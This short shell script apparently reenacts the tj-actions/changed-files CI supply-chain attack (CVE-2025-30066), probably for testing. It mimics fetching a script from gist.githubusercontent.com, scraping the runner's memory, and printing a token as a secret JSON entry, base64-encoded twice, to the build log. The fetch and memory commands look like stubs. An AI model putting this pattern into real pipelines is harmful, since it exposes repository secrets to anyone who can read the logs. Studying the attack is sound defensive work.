# tj-actions/changed-files, March 2025 (CVE-2025-30066): the action fetches a script and has Python read the runner's
# memory; what it finds goes into the log, base64 twice. Here that is a text made of a variable which holds no secret.
# Then the action does its work.
export GITHUB_ACTION=__tj-actions_changed-files
exec sh -c 'curl call gist.githubusercontent.com 443; python3 memory "$RUNNER" >/dev/null
printf '\''"DEPLOY_TOKEN":{"value":"%s","isSecret":true}'\'' "$DEPLOY_TOKEN" | base64 -w 0 | base64 -w 0; echo
sleep 0.1'
